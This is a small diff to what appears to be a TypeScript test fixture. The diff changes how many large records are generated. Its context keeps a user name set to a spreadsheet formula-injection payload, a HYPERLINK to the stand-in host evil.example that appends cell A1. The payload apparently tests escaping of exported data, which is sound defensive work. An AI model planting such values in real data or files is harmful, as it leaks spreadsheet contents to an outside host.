@@ -8,7 +8,7 @@ import { largeRecords, openStand, type Stand } from './stand.ts';
 let stand: Stand;
 
 /** Large enough for responses that are assembled from cached blocks. */
-const { users = [], boards = [], pins = [], ...others } = largeRecords(3);
+const { users = [], boards = [], pins = [], ...others } = largeRecords(3, 2_000);
 const RECORDS = {
   ...others,
   users: [{ ...users[0]!, name: '=HYPERLINK("http://evil.example/?"&A1)' }, ...users.slice(1)],
